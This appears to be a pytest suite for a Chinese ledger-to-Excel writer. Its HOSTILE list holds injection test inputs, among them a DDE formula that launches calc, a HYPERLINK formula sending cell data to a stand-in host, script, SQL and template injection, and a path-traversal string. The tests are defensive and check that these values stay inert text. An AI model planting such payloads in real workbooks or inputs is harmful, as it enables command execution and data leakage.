"""A ledger written out: the same cells for every reader, text as text, whole or not at all."""

import errno
import io
import re
import zipfile
from collections.abc import Iterator, Sequence
from datetime import date, datetime
from itertools import pairwise
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from committee_desk.base.errors import Cancelled, Refused
from committee_desk.base.files import CannotWrite
from committee_desk.ledgers.conventions import conventions
from committee_desk.ledgers.reading.opening import open_file
from committee_desk.ledgers.writing import (
    Column,
    Page,
    Paper,
    Value,
    splice,
    workbook,
    write_workbook,
)
from committee_desk.ledgers.writing.texts import TooLong, clean

HOSTILE = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+86 19400001234",
    "-3楼东户",
    "@某某",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋86",
    "－5",
    "＠a",
    '=HYPERLINK("http://example.invalid?x="&A2,"点我")',
    "<script>alert(1)</script>",
    "'; DROP TABLE residents;--",
    "{{7*7}}",
    "%s%n",
    "../../etc/passwd",
    "\u202e反向文字",
    "AB",
    "x" * 32_767,
    "\U0001f600\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "_x000D_",
    "]]>",
    "&amp;",
    "\ufeff王五",
    " 前后 ",
    "两\n行",
]
COLUMNS = [
    Column("序号", "n", running=True),
    Column("姓名"),
    Column("身份证号码", "t", 20),
    Column("出生日期", "d"),
    Column("人数", "n", total=True),
    Column("金额", "$", total=True),
    Column("备注", "t", 16, long=True),
]
ROW: list[Value] = ["王芳", "329901198105115221", date(1981, 5, 11), 3, 12_050, "0012"]


def page(rows: Any, columns: Sequence[Column] = COLUMNS, **more: Any) -> Page:
    return Page("第1网格", "梧桐社区台账（2026年11月）", columns, rows, **more)


def decoded(text: Any) -> Any:
    """Read the escapes of a workbook text as Excel does; openpyxl leaves them standing."""
    if not isinstance(text, str):
        return text
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), text)


def sheet_xml(path: Path, number: int = 1) -> str:
    with zipfile.ZipFile(path) as book:
        return book.read(f"xl/worksheets/sheet{number}.xml").decode()


def test_every_reader_sees_the_same_cells(tmp_path: Path) -> None:
    path = tmp_path / "台账.xlsx"
    rows = [ROW, ["欧阳建国", "32990119670819365X", "1967-08", None, 5, ""]]

    assert write_workbook(path, [page(rows, foot="填报人：", notes=["说明：1.…", "2.…"])]) == 2

    sheet = openpyxl.load_workbook(path).active
    read = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert read[2] == [each.heading for each in COLUMNS]
    assert [decoded(value) for value in read[3][:3]] == [1, "王芳", "329901198105115221"]
    assert read[3][3].date() == date(1981, 5, 11)
    assert read[3][4:] == [3, 120.5, "0012"]
    assert read[4] == [2, "欧阳建国", "32990119670819365X", "1967-08", None, 0.05, None]
    assert read[5] == ["合计", None, None, None, 3, 120.55, None]
    assert [row[0] for row in read[6:]] == ["填报人：", "说明：1.…", "2.…"]

    again = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    assert again[3] == [1, "王芳", "329901198105115221", date(1981, 5, 11), 3, 120.5, "0012"]
    assert again[5][0] == "合计"


def test_hostile_texts_leave_as_text(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    columns = [Column("姓名"), Column("备注", long=True)]
    write_workbook(path, [page([[f"某人{at}", text] for at, text in enumerate(HOSTILE)], columns)])

    sheet = openpyxl.load_workbook(path).active
    cells = [row[1] for row in sheet.iter_rows(min_row=4)]
    assert [decoded(cell.value) for cell in cells] == HOSTILE
    assert {cell.data_type for cell in cells} == {"s"}
    assert {cell.number_format for cell in cells} == {"@"}
    assert "<f>" not in sheet_xml(path)
    assert "<f " not in sheet_xml(path)


@given(st.lists(st.text(), min_size=1, max_size=30))
def test_any_text_comes_back_as_cleaned(texts: list[str]) -> None:
    frame = workbook.build(workbook._planned([page([[t] for t in texts], [Column("备注")])]))
    made = io.BytesIO()
    splice.splice(
        made,
        frame,
        workbook._planned([page([[t] for t in texts], [Column("备注")])]),
        lambda _: None,
    )
    sheet = openpyxl.load_workbook(made).active
    read = [decoded(row[0].value) or "" for row in sheet.iter_rows(min_row=4)]
    assert read == [clean(text) for text in texts]


def test_our_own_reader_sees_what_was_written(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    columns = [Column("姓名"), Column("备注", long=True), Column("出生日期", "d")]
    born = date(1981, 5, 11)
    rows: list[list[Value]] = [[f"某人{at}", text, born] for at, text in enumerate(HOSTILE)]
    write_workbook(path, [page(rows, columns)])
    [grid] = open_file(path).grids
    assert [grid.at(4 + at, 2) for at in range(len(HOSTILE))] == HOSTILE
    assert grid.at(4, 3) == "1981-05-11"


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("a\x00b\x1fc\x7f", "abc"),
        ("\ud800王", "王"),
        ("\ufffe\uffff", ""),
        ("_x0041\r", "_x0041\r"),
        ("_x000D_x000D_", "_x000D_x000D_"),
    ],
)
def test_what_no_workbook_holds_is_dropped_and_nothing_else(
    tmp_path: Path, text: str, kept: str
) -> None:
    path = tmp_path / "a.xlsx"
    write_workbook(path, [page([[text], ["后"]], [Column("备注")])])
    sheet = openpyxl.load_workbook(path).active
    assert (decoded(sheet["A4"].value) or "") == kept


def test_a_text_too_long_for_a_cell_is_refused_by_name_and_nothing_is_left(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    path.write_bytes(b"old")
    rows = [["短", "长" * 32_768]]
    with pytest.raises(TooLong) as told:
        write_workbook(path, [page(rows, [Column("姓名"), Column("备注")])])
    assert told.value.facts["cell"] == "B4"
    assert told.value.facts["count"] == 32_768
    assert path.read_bytes() == b"old"
    assert list(tmp_path.iterdir()) == [path]


def test_astral_characters_count_twice_against_the_limit(tmp_path: Path) -> None:
    columns = [Column("备注")]
    write_workbook(tmp_path / "a.xlsx", [page([["😀" * 16_383]], columns)])
    with pytest.raises(TooLong):
        write_workbook(tmp_path / "b.xlsx", [page([["😀" * 16_384]], columns)])


def test_numbers_as_text_have_no_green_triangle(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    write_workbook(path, [page([ROW, ROW])])
    assert '<ignoredError sqref="A4:G5" numberStoredAsText="1"/>' in sheet_xml(path)


def test_typed_rows_below_stay_text(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    write_workbook(path, [page([ROW])])
    sheet = openpyxl.load_workbook(path).active
    assert sheet.column_dimensions["C"].number_format == "@"
    assert sheet["D4"].number_format == "yyyy-mm-dd"
    assert sheet["F4"].number_format == "0.00"


@pytest.mark.parametrize(
    ("kind", "value", "read"),
    [
        ("$", -5, -0.05),
        ("$", 12_050.0, 120.5),
        ("$", "面议", "面议"),
        ("n", 88.5, 88.5),
        ("n", "约3", "约3"),
        ("n", float("nan"), "nan"),
        ("n", True, "True"),
        ("d", 45_000, "45000"),
        ("d", datetime(2026, 11, 5, 14, 30), "2026-11-05 14:30"),  # noqa: DTZ001
        ("t", 8, "8"),
        ("c", date(2026, 11, 5), "2026-11-05"),
    ],
)
def test_a_value_that_does_not_suit_its_column_is_text(
    tmp_path: Path, kind: str, value: Value, read: object
) -> None:
    path = tmp_path / "a.xlsx"
    write_workbook(path, [page([[value]], [Column("值", kind)])])
    assert openpyxl.load_workbook(path).active["A4"].value == read


def test_a_workbook_asks_nothing_to_be_calculated(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    write_workbook(path, [page([ROW])])
    with zipfile.ZipFile(path) as book:
        assert b"fullCalcOnLoad" not in book.read("xl/workbook.xml")
        assert not [name for name in book.namelist() if "external" in name or "vba" in name]


def test_a_foot_too_long_for_a_cell_is_refused(tmp_path: Path) -> None:
    with pytest.raises(TooLong) as told:
        write_workbook(tmp_path / "a.xlsx", [page([["a"]], [Column("姓名")], foot="长" * 40_000)])
    assert told.value.facts["cell"] == "A5"


def test_a_sheet_of_one_column_has_its_notes_too(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    write_workbook(
        path, [page([["a"]], [Column("姓名")], notes=["说明"], paper=Paper("A4", False))]
    )
    sheet = openpyxl.load_workbook(path).active
    assert sheet["A5"].value == "说明"
    assert sheet.page_setup.orientation != "landscape"


def test_the_running_number_starts_again_on_every_sheet(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    write_workbook(path, [page([ROW, ROW]), page([ROW])])
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["第1网格", "第1网格(2)"]
    assert [[row[0].value for row in sheet.iter_rows(min_row=4)] for sheet in book] == [
        [1, 2, "合计"],
        [1, "合计"],
    ]


def test_title_header_and_panes_are_where_custom_wants_them(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    write_workbook(path, [page([ROW], frozen=2, filtering=True, unit_left="填报单位")])
    sheet = openpyxl.load_workbook(path).active
    assert "A1:G1" in sheet.merged_cells
    assert sheet["A1"].font.name == "方正小标宋简体"
    assert sheet["A3"].font.name == "黑体"
    assert sheet["A3"].font.bold
    assert sheet["B4"].font.name == "宋体"
    assert sheet["B4"].border.left.style == sheet["B4"].border.bottom.style == "thin"
    assert sheet.freeze_panes == "C4"
    assert sheet.auto_filter.ref == "A3:G4"


def test_a_header_of_two_levels_is_merged_both_ways(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    columns = [
        Column("序号", "n", running=True),
        Column("姓名", group="家庭成员"),
        Column("性别", group="家庭成员"),
        Column("备注"),
    ]
    write_workbook(path, [page([["王芳", "女", ""]], columns)])
    sheet = openpyxl.load_workbook(path).active
    assert {str(each) for each in sheet.merged_cells.ranges} >= {"A3:A4", "B3:C3", "D3:D4"}
    assert [cell.value for cell in sheet[4]] == [None, "姓名", "性别", None]
    assert sheet["A5"].value == 1


def test_up_to_twelve_columns_print_one_page_wide_with_title_and_header(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    rows = [ROW] * 30
    write_workbook(path, [page(rows, trace="内部使用 & A1", foot="填报人：", notes=["说明"])])
    sheet = openpyxl.load_workbook(path).active
    assert sheet.page_setup.paperSize == 9
    assert sheet.page_setup.orientation == "landscape"
    assert (sheet.page_setup.fitToWidth or 1, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_rows == "$1:$3"
    assert sheet.print_area == "'第1网格'!$A$1:$G$36"
    assert sheet.oddFooter.center.text.strip().endswith("第 &P 页 共 &N 页")
    assert "内部使用 && A1" in sheet.oddFooter.left.text
    assert sheet.print_options.horizontalCentered


def test_a_wide_ledger_prints_in_strips_of_at_most_twelve_columns(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    columns = [Column("序号", "n", running=True), *(Column(f"栏目{n}", "t", 12) for n in range(23))]
    write_workbook(path, [page([["值"] * 23] * 3, columns, unit_left="填报单位 A&B")])
    sheet = openpyxl.load_workbook(path).active
    breaks = [each.id for each in sheet.col_breaks.brk]
    edges = [0, *breaks, 24]
    strips = [end - start for start, end in pairwise(edges)]
    assert sum(strips) == 24
    assert max(strips[0], *(1 + each for each in strips[1:])) <= 12
    least = conventions()["page"]["least_type"] / conventions()["sizes"]["body"]
    assert (sheet.page_setup.scale or 100) >= 100 * least
    assert not sheet.page_setup.fitToHeight
    assert sheet.print_title_rows == "$3:$3"
    assert sheet.print_title_cols == "$A:$A"
    header = sheet_xml(path).partition("<oddHeader>")[2].partition("</oddHeader>")[0]
    assert "梧桐社区台账（2026年11月）" in header
    assert "A&amp;&amp;B" in header


def test_an_empty_ledger_is_a_ruled_form(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    assert write_workbook(path, [page([], foot="填报人：")]) == 0
    sheet = openpyxl.load_workbook(path).active
    assert [cell.value for cell in sheet[4]] == [None] * 7
    assert sheet["B4"].border.top.style == "thin"
    assert sheet["A5"].value == "合计"


def test_rows_grow_with_wrapped_text(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    columns = [Column("备注", "t", 10, long=True)]
    write_workbook(path, [page([["短"], ["长" * 30], ["一\n二"]], columns)])
    sheet = openpyxl.load_workbook(path).active
    heights = [sheet.row_dimensions[row].height for row in (4, 5, 6)]
    assert heights[0] == conventions()["heights"]["body"]
    assert heights[1] > heights[2] > heights[0]


def test_days_before_excels_calendar_are_text(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    columns = [Column("出生日期", "d")]
    write_workbook(path, [page([[date(1900, 2, 28)], [date(1900, 3, 1)]], columns)])
    sheet = openpyxl.load_workbook(path).active
    assert sheet["A4"].value == "1900-02-28"
    assert sheet["A5"].value.date() == date(1900, 3, 1)


def test_rows_are_taken_one_by_one_and_progress_is_told(tmp_path: Path) -> None:
    told: list[int] = []
    rows = ([f"人{n}"] for n in range(1_250))
    done = write_workbook(tmp_path / "a.xlsx", [page(rows, [Column("姓名")])], progress=told.append)
    assert done == 1_250
    assert told == [500, 1_000, 1_250]


def test_a_cancelled_job_keeps_the_old_file(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    path.write_bytes(b"old")
    answers = iter([False, True])
    rows = ([f"人{n}"] for n in range(2_000))
    with pytest.raises(Cancelled):
        write_workbook(path, [page(rows, [Column("姓名")])], cancelled=lambda: next(answers))
    assert path.read_bytes() == b"old"
    assert list(tmp_path.iterdir()) == [path]


@pytest.mark.parametrize("fault", [errno.ENOSPC, errno.EROFS, errno.EACCES])
def test_a_fault_of_the_disk_is_a_sentence_and_keeps_the_old_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fault: int
) -> None:
    path = tmp_path / "a.xlsx"
    path.write_bytes(b"old")

    def full(*args: object) -> Iterator[Any]:
        raise OSError(fault, "told")

    monkeypatch.setattr(splice._Spliced, "write", full)
    with pytest.raises(CannotWrite):
        write_workbook(path, [page([ROW])])
    assert path.read_bytes() == b"old"
    assert list(tmp_path.iterdir()) == [path]


def test_a_file_that_does_not_read_back_is_not_kept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "a.xlsx"
    real = splice._Spliced.write

    def loses_rows(self: Any, data: Any, tell: Any) -> None:
        real(self, data, tell)
        self.rows += 1

    monkeypatch.setattr(splice._Spliced, "write", loses_rows)
    with pytest.raises(workbook.NotWhole):
        write_workbook(path, [page([ROW])])
    assert not path.exists()


def test_a_damaged_copy_is_noticed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real = splice.splice

    def damaging(out: Any, *rest: Any) -> Any:
        counted = real(out, *rest)
        out.seek(200)
        out.write(b"\0\0\0\0\0\0\0\0")
        return counted

    monkeypatch.setattr(workbook, "splice", damaging)
    with pytest.raises(workbook.NotWhole):
        write_workbook(tmp_path / "a.xlsx", [page([ROW])])
    assert not list(tmp_path.iterdir())


def test_more_rows_than_a_sheet_holds_are_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(splice, "MOST_ROWS", 600)
    with pytest.raises(Refused) as told:
        write_workbook(tmp_path / "a.xlsx", [page([["人"]] * 700, [Column("姓名")])])
    assert told.value.code == "too_many_rows"
    assert not list(tmp_path.iterdir())
